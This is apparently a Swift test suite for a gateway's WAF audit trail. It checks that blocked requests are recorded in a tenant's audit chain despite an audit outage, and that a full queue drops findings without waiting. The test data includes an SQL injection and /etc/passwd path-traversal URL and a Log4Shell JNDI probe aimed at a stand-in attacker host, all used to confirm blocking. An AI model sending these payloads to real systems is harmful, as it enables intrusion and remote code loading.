import Foundation
@testable import Audit
@testable import Control
@testable import Gateway
import Hummingbird
@testable import Identity
import RampartCore
import RampartSecurity
import RampartTransport
import ServiceLifecycle
import Testing

/// WAF findings on a tenant's host reach the tenant's audit chain through the gateway's
/// background trail, also when audit was down while they happened, without slowing the requests.
@Suite("Gateway: WAF blocks in the audit log")
struct GatewayWAFAuditTests {
    static let eu = Region(rawValue: "eu")!
    /// A blocked search: SQL injection and path traversal in the query.
    static let attack = "/api/v1/tickets?q=%27%20or%201%3D1--&f=../../etc/passwd"
    /// A Log4Shell probe hidden in a credential: blocked, and its value must not travel anywhere.
    static let secretMarker = "SECRETVALUE123"

    /// Polls `condition` for up to `seconds`.
    static func eventually(_ seconds: Int = 40, _ condition: () async throws -> Bool) async throws -> Bool {
        for _ in 0..<(seconds * 10) {
            if try await condition() { return true }
            try await Task.sleep(for: .milliseconds(100))
        }
        return false
    }

    /// The new value of `field` in an event's `changes` (`[from, to]`).
    static func changed(_ changes: [String: Any], _ field: String) -> String? {
        (changes[field] as? [Any])?.last as? String
    }

    @Test func blocksReachTheTenantsChainAfterAnAuditOutageAndRequestsNeverWaitForAudit() async throws {
        let pki = try TestPKI()
        let signingKey = PrincipalSigningKey.generate()
        let database = try await TestDatabase.make(region: Self.eu)
        let identity = try await RunningService.start(.identity, region: Self.eu, pki: pki, signingKey: signingKey, database: database,
                                                      migrations: IdentityMigrations.all) { router, runtime in
            try IdentityService.register(on: router, runtime: runtime, keys: try IdentityKeys(config: runtime.config))
        }
        let operatorClient = InternalClient(tls: try InternalTLS(files: try pki.files(for: .operator("tests"))))
        let created = try await operatorClient.send(.POST, url: identity + "/internal/v1/operator/tenants", body: Data(#"{"slug":"acme","display_name":"Acme"}"#.utf8))
        try await operatorClient.shutdown()
        #expect(created.status == 201)
        let tenantText = (try JSONSerialization.jsonObject(with: created.body) as? [String: Any])?["id"] as? String
        let tenant = try #require(tenantText.flatMap(TenantID.init))

        // Audit is down the worst way: its address completes TLS handshakes and never answers, so a
        // request that waited for audit would wait for the internal client's 30-s read timeout.
        let silentAudit = try await SilentUpstream.start(pki: pki)
        let auditPort = silentAudit.port
        let endpoints: [String: Any] = ["regions": [
            "eu": ["identity": identity, "audit": "https://127.0.0.1:\(auditPort)"],
            "us": ["identity": identity],
        ]]
        let (httpsPort, _) = try await EdgeFixture.startGateway(pki: pki, signingKey: signingKey, endpoints: endpoints,
                                                                policy: try EdgeFixture.policy(), accessLog: AccessLog(sink: .init { _ in }))
        let base = "https://acme.eu.localhost:\(httpsPort)"

        let clock = ContinuousClock()
        var requestIDs: [String] = []
        for index in 0..<5 {
            let requestID = "waf-audit-test-\(index)"
            let started = clock.now
            let reply = try await EdgeClient.request(base + Self.attack, ca: pki.caPath, headers: ["X-Request-Id: \(requestID)"])
            #expect(reply.status == 403)
            #expect(reply.json["code"] as? String == "request_blocked")
            // Audit being down costs the request nothing: it never waits for audit (which would
            // take 30 s). The bound leaves room for a machine loaded by the rest of the suite.
            #expect(started.duration(to: clock.now) < .seconds(10))
            requestIDs.append(requestID)
        }
        let credentialProbe = try await EdgeClient.request(base + "/api/v1/tickets", ca: pki.caPath, headers: [
            "X-Request-Id: waf-audit-credential", "Authorization: Bearer ${jndi:ldap://attacker.test/\(Self.secretMarker)}",
        ])
        #expect(credentialProbe.status == 403)
        // A benign request is unaffected too (401: the route needs a credential, none was sent).
        #expect(try await EdgeClient.request(base + "/api/v1/tickets", ca: pki.caPath).status == 401)

        // The trail has been trying to deliver to the silent address all along (the requests above
        // were answered while it waited); audit comes up there.
        #expect(try await Self.eventually(10) { silentAudit.connections > 0 })
        await silentAudit.stop()
        let expectedRequestIDs = Set(requestIDs + ["waf-audit-credential"])
        try await AuditFixture.with(database: database, pki: pki, port: auditPort) { audit in
            let principal = try audit.principal(tenant)
            var events: [[String: Any]] = []
            let arrived = try await Self.eventually {
                let (status, page) = try await audit.get("/api/v1/audit/events?action=waf.blocked&limit=50", principal: principal)
                events = status == 200 ? (page["data"] as? [[String: Any]] ?? []) : []
                return events.count == 6
            }
            #expect(arrived, "\(events.count) events arrived")
            let byRequest = Dictionary(uniqueKeysWithValues: events.compactMap { event in (event["request_id"] as? String).map { ($0, event) } })
            #expect(Set(byRequest.keys) == expectedRequestIDs)

            let event = try #require(byRequest["waf-audit-test-0"])
            #expect(event["service"] as? String == "gateway")
            #expect(event["outcome"] as? String == "failure")
            let actor = try #require(event["actor"] as? [String: Any])
            #expect(actor["type"] as? String == "anonymous")
            #expect(actor["ip"] as? String == "127.0.0.1")
            let resource = try #require(event["resource"] as? [String: Any])
            #expect(resource["type"] as? String == "http_request")
            #expect(resource["id"] as? String == "waf-audit-test-0")
            let changes = try #require(event["changes"] as? [String: Any])
            #expect(Self.changed(changes, "rules")?.isEmpty == false)
            #expect(Self.changed(changes, "score").flatMap { Int($0) } ?? 0 >= 5)
            #expect(Self.changed(changes, "route") == "/api/v1/tickets")
            #expect(Self.changed(changes, "categories")?.contains("sqli") == true)

            // The match in the credential is recorded by rule and target, never by value.
            let probe = try #require(byRequest["waf-audit-credential"])
            let probeChanges = try #require(probe["changes"] as? [String: Any])
            #expect(Self.changed(probeChanges, "matches")?.contains("header:authorization: \(WAFMatch.withheld)") == true)
            let everything = String(decoding: try JSONSerialization.data(withJSONObject: events), as: UTF8.self)
            #expect(!everything.contains(Self.secretMarker))

            // In the chain: verification walks every stored event of the tenant.
            let report = try await audit.verify(tenant)
            #expect(report.broken == nil)
            #expect(report.rows == 6)
        }
    }

    @Test func aFullQueueDropsFindingsAndCountsThemWithoutWaiting() async throws {
        let pki = try TestPKI()
        let closed = "https://127.0.0.1:\(try RunningService.freePort())"
        let (values, _) = try EdgeFixture.gatewayValues(pki: pki, signingKey: .generate(),
                                                        endpoints: ["regions": ["eu": ["identity": closed, "audit": closed], "us": ["identity": closed]]],
                                                        policy: try EdgeFixture.policy())
        let config = try ServiceConfig(service: .gateway, source: ConfigSource(values: values))
        let runtime = try await ServiceRuntime.prepare(config: config, migrations: [])
        let settings = try #require(try EdgeSettings.load(config))
        let upstreams = try Upstreams(settings: settings, runtime: runtime, policy: try EdgePolicy(contentsOf: settings.policyPath))
        var queue = WAFAuditTrail.Settings()
        queue.capacity = 3
        let trail = WAFAuditTrail(upstreams: upstreams, settings: queue, logger: runtime.logger)
        let waf = try WafCorpus.shippedWAF()
        let verdict = waf.inspect(InspectedRequest(method: "GET", rawPath: "/api/v1/tickets", rawQuery: "q=%27%20or%201%3D1--"))
        #expect(verdict.blocked)
        // Nothing delivers (the trail is not running): the fourth and fifth findings do not fit.
        for index in 0..<5 {
            trail.record(WAFAuditRecord(verdict: verdict, tenant: TenantSlug(rawValue: "acme")!, region: Self.eu, requestID: "r-\(index)",
                                        clientIP: "203.0.113.9", userAgent: nil, method: "GET", route: "/api/v1/tickets"))
        }
        #expect(trail.dropped == 2)
        await upstreams.shutdown()
    }
}
